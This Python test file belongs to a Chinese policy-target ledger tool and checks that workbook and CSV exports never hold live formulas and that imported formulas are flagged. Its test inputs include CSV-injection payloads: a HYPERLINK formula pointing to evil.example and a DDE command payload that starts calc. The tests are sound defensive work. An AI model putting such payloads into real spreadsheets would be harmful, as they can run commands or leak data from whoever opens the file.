"""No export ever holds a live formula, and no imported formula is read as a number or a blank.

OWASP's CSV-injection rule: a cell beginning with = + - @, a tab or a carriage return is run by
spreadsheet programs as a formula (``=HYPERLINK("http://…","点击")`` in an indicator's name, a note
or a document title would run when an official opens the ledger). Every workbook (ledger download,
meeting pack, import template) and the CSV ledger write such text as text; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from outputs import export, i18n, pack, xlsx
from tracking import reported as rep
from tracking import reported_import as imp
from tracking.cells import csv_quote_formula, csv_unquote_formula, formula_like

TODAY = date(2024, 9, 1)
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A"]


def cells(book_bytes: bytes):
    """Every non-empty cell of every sheet, reopened by openpyxl as Excel would read the file."""
    book = load_workbook(io.BytesIO(book_bytes))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def formula_xml(book_bytes: bytes) -> list[str]:
    """Formula elements (<f>) in the sheets' XML: what Excel would evaluate on opening."""
    with zipfile.ZipFile(io.BytesIO(book_bytes)) as zf:
        return [m.group(0).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")
                for m in re.finditer(rb"<(?:\w+:)?f[\s>/][^<]*", zf.read(n))]


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def hostile_ledger() -> pd.DataFrame:
    """Ledger rows (as tracking/queries gives them) whose text fields carry formulas."""
    return pd.DataFrame({
        "target_id": ["t-1", "t-2"], "jurisdiction": ["=1+1", "冠县"], "sector": ["@SUM(A1)", "民生"],
        "indicator_name": [ATTACKS[0], "PM2.5浓度"], "comparator": [">=", "<="], "value": [3000.0, -5.0],
        "unit": ["个", "%"], "target_year": [2025, 2025], "baseline_value": [None, -1.5],
        "latest_value": [-12.0, None], "latest_period": ["-2+3", "2024Q2"], "status": ["on_track", "no_data"],
        "completion": [-0.25, None], "lead_departments": [["+局"], ["县科技局"]], "deadline": ["\t=x", ""],
        "attribute": ["", ""], "document_title": ["=cmd|' /C calc'!A0", "规划"], "doc_number": ["", ""],
        "clause_ref": ["-1", "5"], "source_text": ["\r=1", "原文"],
    })


# --- writing -----------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ATTACKS)
def test_ledger_xlsx_cell_starting_with_a_formula_sign_is_text_not_a_formula(text):
    book = export.frame_to_xlsx(pd.DataFrame({text: [text, 1.5]}), title=text)
    assert formula_xml(book) == []
    found = cells(book)
    assert [c.data_type for c in found if c.value == text] == ["s", "s", "s"]  # title, header, cell
    assert all(c.quotePrefix for c in found if c.value == text)


@pytest.mark.parametrize("text", ATTACKS[:-1])
def test_ledger_csv_cell_starting_with_a_formula_sign_gets_a_quote(text):
    got = csv_cells(export.frame_to_csv(pd.DataFrame({text: [text]})))
    assert got == ["'" + text, "'" + text]


def test_negative_numbers_stay_numbers_in_csv_and_xlsx():
    frame = pd.DataFrame({"实际值": [-5.2, 3.0], "文本": ["-5.2", "+3%"], "n": pd.array([-7, None], dtype="Int64")})
    assert csv_cells(export.frame_to_csv(frame)) == ["实际值", "文本", "n", "-5.2", "-5.2", "-7", "3.0", "+3%", ""]
    by_value = {c.coordinate: (c.value, c.data_type) for c in cells(export.frame_to_xlsx(frame))}
    assert by_value["A2"] == (-5.2, "n") and by_value["C2"] == (-7, "n")
    assert by_value["B2"] == ("-5.2", "s")


def test_ledger_download_of_hostile_rows_holds_no_formula():
    table = export.ledger_table(hostile_ledger())
    book = export.frame_to_xlsx(table)
    assert formula_xml(book) == []
    assert {c.value for c in cells(book)} >= {"=1+1", ATTACKS[0], "-2+3", "\t=x"}
    assert all(not formula_like(cell) for cell in csv_cells(export.frame_to_csv(table)))
    completion = table[i18n.t("col.completion")]
    assert completion[0] == -25.0 and pd.isna(completion[1])  # a number, even negative


def test_meeting_pack_sheet_of_hostile_rows_holds_no_formula():
    rows = hostile_ledger().assign(changed_periods=[["2024Q2"], []])
    table = export.ledger_table(rows)
    book = xlsx.workbook_bytes([pack.ledger_sheet("冠县", table, rows, "zh", print_header="=1+1 · 目标台账")])
    assert formula_xml(book) == []
    found = {c.value: c for c in cells(book)}
    assert found["=1+1"].data_type == "s" and found["=1+1"].quotePrefix
    assert found[-25.0].data_type == "n"  # completion stays a number, formatted as a percentage


def test_import_template_with_a_hostile_indicator_name_holds_no_formula():
    targets = pd.DataFrame({"target_id": ["t-1"], "jurisdiction": ["冠县"], "indicator_name": ["=1+1"],
                            "unit": ["个"], "value": [3.0], "target_year": [2025], "span_end_year": [2025.0]})
    book = export.template_xlsx_bytes(imp.template_frame(targets, TODAY))
    assert formula_xml(book) == []
    assert "=1+1" in {c.value for c in cells(book)}


def test_control_character_from_a_pdf_does_not_break_the_workbook():
    # openpyxl refuses \x0c (a page break pdfplumber can leave in a clause) with IllegalCharacterError
    book = export.frame_to_xlsx(pd.DataFrame({"原文": ["第一条\x0c第二条\x00"]}))
    assert [c.value for c in cells(book)] == ["原文", "第一条第二条"]


def test_infinite_number_is_an_empty_cell_not_a_corrupt_workbook():
    book = export.frame_to_xlsx(pd.DataFrame({"完成率": [float("inf"), float("-inf"), float("nan"), 1.0]}))
    assert [c.value for c in cells(book)] == ["完成率", 1.0]


def test_text_longer_than_a_cell_holds_is_cut():
    book = export.frame_to_xlsx(pd.DataFrame({"原文": ["字" * 40000]}))
    assert len(cells(book)[1].value) == xlsx.MAX_CELL_TEXT


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1, max_size=30), st.booleans())
def test_no_text_ever_becomes_a_live_formula(text, dressed):
    """Property: whatever the text, as a header or a cell, on the fast or the dressed path, the
    workbook holds no formula and reads back as the text (less XML-illegal characters), and the CSV
    holds no cell a spreadsheet would run."""
    frame = pd.DataFrame({text: [text, -1.0]})
    sheet = xlsx.Sheet("s", frame, borders=dressed)
    book = xlsx.workbook_bytes([sheet])
    assert formula_xml(book) == []
    found = cells(book)
    assert all(c.data_type in ("s", "n") for c in found)
    expected = xlsx.clean_text(text).replace("\r\n", "\n").replace("\r", "\n")
    if expected:
        texts = [c.value.replace("\r\n", "\n").replace("\r", "\n") for c in found if c.data_type == "s"]
        assert texts == [expected, expected]
    assert -1.0 in [c.value for c in found]
    assert not any(formula_like(cell) for cell in csv_cells(export.frame_to_csv(frame)))


# --- reading -----------------------------------------------------------------------------------

@pytest.fixture
def store(sample_db, tmp_path):
    return {"indicators_db": sample_db, "reported_db": tmp_path / "reported.duckdb"}


def workbook_with(rows: list[list], cached: dict[str, str] | None = None) -> bytes:
    """A .xlsx of ``rows`` under the template's headers; ``cached`` adds the value Excel saves with a
    formula (cell → value), which openpyxl itself never writes."""
    wb = Workbook()
    ws = wb.active
    ws.title = imp.TEMPLATE_SHEET
    ws.append(["指标编号(target_id)", "指标(indicator)", "报告期(period)", "实际值(value)", "备注(note)"])
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    data = out.getvalue()
    if not cached:
        return data
    src, dst = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(dst, "w") as zf:
        for item in src.infolist():
            payload = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                for cell, value in cached.items():
                    payload = re.sub(rf'(<c r="{cell}"[^>]*>\s*<f>[^<]*</f>)(<v>[^<]*</v>|<v\s*/>)?'.encode(),
                                     rb"\1<v>" + value.encode() + b"</v>", payload)
            zf.writestr(item, payload)
    return dst.getvalue()


def test_xlsx_formula_without_a_saved_value_is_a_problem_not_a_skipped_row(store):
    # pandas reads a formula nobody calculated as a blank: the row was silently skipped
    data = workbook_with([["t-hitech-gx", "高新技术企业", "2024Q2", 65], ["t-pm25-gx", "PM2.5浓度", "2024Q2", "=D2-20"]])
    report = imp.import_file(data, filename="t.xlsx", account_name="t", today=TODAY, **store)
    assert not report.ok
    assert [(p.row, p.column, p.value, p.code, p.params) for p in report.problems.itertuples()] == [
        (3, "value", "=D2-20", "formula", {"cell": "D3"})]
    assert "D3" in report.problems.loc[0, "reason"] and "公式" in report.problems.loc[0, "reason"]
    assert rep.latest_reported(store["reported_db"]).empty


def test_xlsx_formula_with_a_saved_value_is_a_problem_not_that_value(store):
    data = workbook_with([["t-hitech-gx", "高新技术企业", "2024Q2", "=60+5"]], cached={"D2": "65"})
    assert pd.read_excel(io.BytesIO(data), dtype=str).loc[0, "实际值(value)"] == "65"  # what was read before
    report = imp.import_file(data, filename="t.xlsx", account_name="t", today=TODAY, **store)
    assert [(p.row, p.column, p.code) for p in report.problems.itertuples()] == [(2, "value", "formula")]
    assert rep.latest_reported(store["reported_db"]).empty


def test_xlsx_formula_in_a_column_the_import_ignores_is_harmless(store):
    data = workbook_with([["t-hitech-gx", "=1+1", "2024Q2", 65]])
    report = imp.import_file(data, filename="t.xlsx", account_name="t", today=TODAY, **store)
    assert report.ok and report.saved == 1


def test_formula_reason_reads_in_both_languages():
    params = {"value": "=D2-20", "column": "value", "cell": "D3"}
    assert i18n.t("entry.reason.formula", "zh", **params).startswith("单元格 D3 是公式 =D2-20")
    assert i18n.t("entry.reason.formula", "en", **params).startswith("Cell D3 holds the formula =D2-20")


def test_exported_csv_with_a_quoted_formula_imports_as_written(store):
    frame = pd.DataFrame({"指标编号(target_id)": ["t-income-gx"], "报告期(period)": ["2023"],
                          "实际值(value)": ["-2"], "备注(note)": ["=统计局口径"]})
    data = export.frame_to_csv(frame)
    assert "'=统计局口径" in data.decode("utf-8-sig") and ",-2," in data.decode("utf-8-sig")
    report = imp.import_file(data, filename="t.csv", account_name="t", today=TODAY, **store)
    assert report.ok, report.problems
    latest = rep.latest_reported(store["reported_db"])
    assert (latest.loc[0, "note"], latest.loc[0, "value"]) == ("=统计局口径", -2.0)


@given(st.text(max_size=20))
def test_quoting_a_csv_cell_is_undone_exactly(text):
    """Property: the import (and a restore) reads back exactly the text the export wrote, and the
    written cell is never formula-like — even for text that already starts with ' (``'=x``)."""
    quoted = csv_quote_formula(text)
    assert csv_unquote_formula(quoted) == text
    assert not formula_like(quoted)


def test_backup_csv_of_a_hostile_note_holds_no_formula_and_restores_as_written(tmp_path):
    store = tmp_path / "reported.duckdb"
    notes = ["=HYPERLINK(\"http://evil.example\")", "'=已加引号", "多行\r=1+1", "-2+3"]
    rep.save_values(store, pd.DataFrame({"target_id": [f"t-{i}" for i in range(4)], "period": ["2024"] * 4,
                                         "value": [-1.5, 2.0, 3.0, 4.0], "note": notes}), account="甲", how="cli")
    out = rep.backup_reported(store, tmp_path / "backup")
    assert not any(formula_like(c) for c in csv_cells((out / "reported_values.csv").read_bytes()))
    for name in rep.BACKUP_TABLES:
        (out / f"{name}.parquet").unlink()   # restore from the CSVs alone
    rep.restore_reported(out, tmp_path / "restored.duckdb")
    restored = rep.latest_reported(tmp_path / "restored.duckdb")
    assert restored["note"].tolist() == notes and restored["value"].tolist() == [-1.5, 2.0, 3.0, 4.0]
